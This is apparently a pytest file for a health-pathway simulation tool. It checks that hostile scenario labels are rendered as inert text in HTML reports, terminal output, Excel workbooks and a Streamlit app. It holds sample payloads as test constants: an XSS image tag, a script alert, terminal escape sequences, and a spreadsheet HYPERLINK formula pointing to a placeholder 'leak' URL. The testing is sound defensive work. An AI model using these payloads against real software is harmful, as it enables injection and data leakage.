"""A hostile label through every output (issue 29): HTML that would run in the reader's
browser, terminal escapes that would clear the screen or retitle the window, and a
leading ``=`` that a spreadsheet would run as a formula. Each class is fed through the
report, the workbook, the terminal and the app, and must come out as the text it is.
"""

from __future__ import annotations

import re
import shutil
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from pathway_sim.core.text import as_spreadsheet_text, for_markdown, formula_like, printable

from .conftest import MMC, SCENARIOS, write

HTML = "<img src=x onerror=alert(1)>"
ESCAPES = "\x1b]0;PWNED\x07\x1b[2J"
FORMULA = '=HYPERLINK("http://example.invalid/?leak","open")'
SMALL = ["--set", "population.women_per_year=30", "--set", "population.cohort_days=90",
         "--set", "run.warmup_days=30"]  # fmt: skip


def quoted(text: str) -> str:
    """``text`` as YAML writes it in double quotes (escapes spelled out)."""
    return '"' + text.encode("unicode_escape").decode("ascii").replace('"', '\\"') + '"'


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> tuple[Path, bytes]:
    """A comparison whose base is labelled with HTML and whose other scenario with
    terminal escapes, run by the real command (report and workbook on); its directory
    and what it printed, byte for byte."""
    root = tmp_path_factory.mktemp("hostile")
    base = write(root / "base.yaml", f"extends: {SCENARIOS / 'base.yaml'}\nname: base\n"
                 f"label: {quoted(HTML)}\n")  # fmt: skip
    other = write(root / "other.yaml", f"extends: {SCENARIOS / 'base.yaml'}\nname: other\n"
                  f"label: {quoted(ESCAPES + FORMULA)}\n"
                  "interventions: {text_reminders: true}\n")  # fmt: skip
    done = subprocess.run(
        [sys.executable, "-m", "pathway_sim", "compare", str(base), str(other), "--reps", "2",
         *SMALL, "--out", str(root / "out")],
        capture_output=True, check=False, timeout=600,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr.decode(errors="replace")
    return root / "out", done.stdout + done.stderr


# --- HTML ------------------------------------------------------------------------------------


@pytest.mark.slow
def test_an_html_label_is_text_in_the_report(hostile):
    out, _ = hostile
    html = (out / "report.html").read_text(encoding="utf-8")
    assert "<img src=x" not in html
    assert "the base <b>&lt;img src=x onerror=alert(1)&gt;</b>" in html  # the ToC section


@pytest.mark.slow
def test_an_html_label_edited_into_a_results_directory_is_text_in_the_report(
    cli, hostile, tmp_path
):
    out = shutil.copytree(hostile[0], tmp_path / "copy")
    scenario = out / "base" / "scenario.yaml"
    text = re.sub(r"^label: .*$", "label: <script>alert(2)</script>", scenario.read_text(),
                  flags=re.M)  # fmt: skip
    scenario.write_text(text, encoding="utf-8")
    code, _, err = cli("report", out)
    assert code == 0, err
    html = (out / "report.html").read_text(encoding="utf-8")
    assert "<script>" not in html and "&lt;script&gt;alert(2)&lt;/script&gt;" in html


@pytest.mark.slow
def test_an_html_label_renders_as_text_in_a_browser(hostile, tmp_path):
    """Headless Chromium opens the report: the label is text on the page, no image element
    is made of it and no script ran (an alert would be open)."""
    pytest.importorskip("selenium", reason="selenium is not installed: pip install .[test]")
    from selenium import webdriver
    from selenium.common.exceptions import NoAlertPresentException
    from selenium.webdriver.chrome.service import Service
    from selenium.webdriver.common.by import By

    from .test_app_browser import CHROMEDRIVER, CHROMIUM

    if not (Path(CHROMIUM).is_file() and Path(CHROMEDRIVER).is_file()):
        pytest.skip("needs Debian's chromium and chromium-driver (.ci/run installs them)")
    options = webdriver.ChromeOptions()
    options.binary_location = CHROMIUM
    for flag in (
        "--headless=new",
        "--no-sandbox",
        "--disable-gpu",
        "--window-size=1400,1000",
        "--disable-background-networking",
        f"--user-data-dir={tmp_path / 'profile'}",
    ):
        options.add_argument(flag)  # fmt: skip
    driver = webdriver.Chrome(options=options, service=Service(executable_path=CHROMEDRIVER))
    try:
        driver.get((hostile[0] / "report.html").as_uri())
        with pytest.raises(NoAlertPresentException):
            driver.switch_to.alert.text  # noqa: B018 (reading it is the check)
        assert driver.find_elements(By.CSS_SELECTOR, "img[src='x']") == []
        toc = driver.find_element(By.ID, "toc")
        driver.execute_script("arguments[0].scrollIntoView()", toc)
        assert f"the base {HTML}, one line per scenario" in toc.text
        driver.save_screenshot(str(tmp_path / "toc.png"))
    finally:
        driver.quit()


# --- terminal escapes ------------------------------------------------------------------------


@pytest.mark.slow
def test_terminal_escapes_in_a_label_are_shown_not_obeyed(hostile):
    _, printed = hostile
    assert b"\x1b" not in printed and b"\x07" not in printed
    assert b"\\x1b]0;PWNED" in printed  # the compact scorecard's column, shown


def test_terminal_escapes_in_an_unknown_key_are_shown_not_obeyed(cli, tmp_path):
    path = write(tmp_path / "bad.yaml", f"extends: {MMC}\n{quoted(ESCAPES)}: 1\n")
    code, out, err = cli("run", path, "--reps", "1")
    assert code == 2 and "Traceback" not in err
    assert "\x1b" not in out + err and "\x07" not in out + err
    assert "\\x1b]0;PWNED\\x07\\x1b[2J" in err and str(path) in err


def test_terminal_escapes_in_a_file_name_are_shown_not_obeyed(cli, tmp_path):
    path = write(tmp_path / f"{ESCAPES}.yaml", f"extends: {MMC}\nname: fine\n")
    code, out, err = cli("validate", path)
    assert code == 0, err
    assert "\x1b" not in out and f"ok  {printable(path)}" in out


def test_terminal_escapes_in_the_output_directory_are_shown_not_obeyed(cli, tmp_path):
    out = tmp_path / ESCAPES
    code, printed, err = cli("run", MMC, "--reps", "1", "--out", out)
    assert code == 0, err
    assert "\x1b" not in printed and f"results in {printable(out)}" in printed


def test_every_character_a_terminal_obeys_is_written_out():
    assert printable("a\x1b[2Jb\x07c\rd\x9be\u202ef\n\tg") == (
        "a\\x1b[2Jb\\x07c\\rd\\x9be\\u202ef\n\tg"
    )


# --- a leading = (spreadsheets) --------------------------------------------------------------


def test_a_label_like_a_formula_stays_text_in_the_workbook(tmp_path):
    from pathway_sim.reporting.xlsx import write_workbook

    table = pd.DataFrame(
        {"kpi": ["a", "b", "c"], "scenario": [FORMULA, "+1+1", "fine"], "mean": [1.0, 2.0, -3.0]}
    )
    path = write_workbook(tmp_path, table, table, table)
    sheet = load_workbook(path)["scorecard"]
    cells = {c.value: c for row in sheet.iter_rows(min_row=2) for c in row}
    assert cells[FORMULA].data_type == "s" and cells[FORMULA].quotePrefix
    assert cells["+1+1"].data_type == "s" and cells["+1+1"].quotePrefix
    assert not cells["fine"].quotePrefix and cells[-3.0].data_type == "n"
    xml = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml  # no formula anywhere in the sheet


@pytest.mark.slow
def test_no_formula_reaches_the_workbook_of_a_hostile_comparison(hostile):
    out, _ = hostile
    with zipfile.ZipFile(out / "report.xlsx") as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any("<f>" in book.read(n).decode() for n in sheets)


def test_the_guards_treat_formula_starts_as_text():
    assert [formula_like(v) for v in ("=1", "+1", "-1", "@A1", "\tx", "a=1", -1, None)] == [
        True, True, True, True, True, False, False, False,
    ]  # fmt: skip
    assert as_spreadsheet_text(FORMULA) == "'" + FORMULA and as_spreadsheet_text(3) == 3


# --- the app ---------------------------------------------------------------------------------

APP_LABEL = "=" + HTML + ESCAPES
"""One what-if name carrying every class (the app's name field holds 60 characters)."""


@pytest.fixture(scope="module")
def app_run():
    """The app after a what-if named ``APP_LABEL`` ran to its end (2 pairs, in a thread)."""
    pytest.importorskip("streamlit", reason="the app extra is not installed: pip install .[app]")
    from streamlit.testing.v1 import AppTest

    from pathway_sim.app import jobs, page, server, store

    with pytest.MonkeyPatch.context() as patch:
        patch.setenv(page.WORKERS_ENV, "1")
        patch.delenv(server.RESULTS_ENV, raising=False)
        store.close_server()
        at = AppTest.from_file(str(Path(page.__file__)), default_timeout=60)
        at.run()
        at.number_input(key="reps").set_value(2)
        at.checkbox(key="lever:kr8_text_reminders").check()
        at.text_input(key="name").set_value(APP_LABEL)
        at.run()
        at.button(key="run").click().run()
        run = store.server().get(at.session_state["current"])
        deadline = time.monotonic() + 120
        while run.job.state == jobs.RUNNING and time.monotonic() < deadline:
            time.sleep(0.3)
        at.run()
        assert run.job.state == jobs.DONE and not at.exception
        yield at, run
        store.close_server()


def markdown_of(at) -> str:
    """The Markdown source of every heading, text and message on the page."""
    kinds = ("subheader", "markdown", "caption", "success", "error", "info")
    return "\n".join(e.value for kind in kinds for e in at.get(kind))


def html_of(at) -> str:
    return "\n".join(str(h.proto.body) for h in at.get("html"))


@pytest.mark.slow
@pytest.mark.parametrize("kind", ["html", "terminal", "formula"])
def test_a_hostile_label_is_text_in_the_app(app_run, kind, tmp_path):
    at, run = app_run
    markdown = markdown_of(at)
    assert for_markdown(run.label) in markdown  # the run's heading
    if kind == "html":
        heading = next(e.value for e in at.get("subheader") if "PWNED" in e.value)
        assert not re.search(r"(?<!\\)[<>\[\]()!=]", heading)  # each one escaped
        assert "<img src=x" not in html_of(at)
        assert "&lt;img src=x onerror=alert(1)&gt;" in html_of(at)  # the ToC panel
        from pathway_sim.app.page import files_of

        report = files_of(run.job, tmp_path)["report.html"][0].decode()
        assert "<img src=x" not in report and "&lt;img src=x" in report
    elif kind == "terminal":
        assert "\x1b" not in markdown and "\x07" not in markdown
        assert "x1b" in markdown  # written out where it is shown
    else:
        verdicts = at.dataframe[0].value
        assert set(verdicts["scenario"]) == {"'" + run.label}  # text, if exported as CSV
        assert run.label == printable(APP_LABEL)
